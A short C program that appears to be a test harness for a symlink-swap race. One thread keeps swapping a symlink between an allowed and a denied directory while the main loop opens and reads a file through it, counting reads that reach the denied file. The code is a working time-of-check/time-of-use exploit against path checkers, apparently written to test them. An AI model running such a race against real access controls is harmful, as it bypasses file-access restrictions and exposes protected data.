/* Symlink-swap race on an intermediate directory: one thread keeps
 * replacing WS/link (atomically, by rename) with a symlink to an allowed
 * directory and one to the denied directory; the other opens WS/link/FILE
 * and reads it. A checker that resolves the path and lets the kernel resolve
 * it again can be raced into reading the denied FILE.
 * Usage: race_symlink WS ALLOWED_DIR DENIED_DIR FILE MARKER ITERATIONS */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char link_path[4096], tmp_a[4096], tmp_b[4096];
static atomic_int done;

static void *flipper(void *arg) {
    (void)arg;
    while (!atomic_load(&done)) {
        rename(tmp_b, link_path);
        symlink(((char **)arg)[0], tmp_b);
        rename(tmp_a, link_path);
        symlink(((char **)arg)[1], tmp_a);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 7) return 2;
    snprintf(link_path, sizeof link_path, "%s/link", argv[1]);
    snprintf(tmp_a, sizeof tmp_a, "%s/link.a", argv[1]);
    snprintf(tmp_b, sizeof tmp_b, "%s/link.b", argv[1]);
    char *targets[2] = {argv[3], argv[2]}; /* tmp_b -> denied, tmp_a -> allowed */
    symlink(argv[2], link_path);
    symlink(argv[2], tmp_a);
    symlink(argv[3], tmp_b);
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", link_path, argv[4]);
    long n = atol(argv[6]), leaks = 0, opened = 0;
    pthread_t t;
    pthread_create(&t, NULL, flipper, targets);
    char buf[256];
    for (long i = 0; i < n; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        opened++;
        ssize_t r = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (r > 0) {
            buf[r] = 0;
            if (strstr(buf, argv[5])) leaks++;
        }
    }
    atomic_store(&done, 1);
    pthread_join(t, NULL);
    printf("opened=%ld leaks=%ld\n", opened, leaks);
    return leaks ? 1 : 0;
}
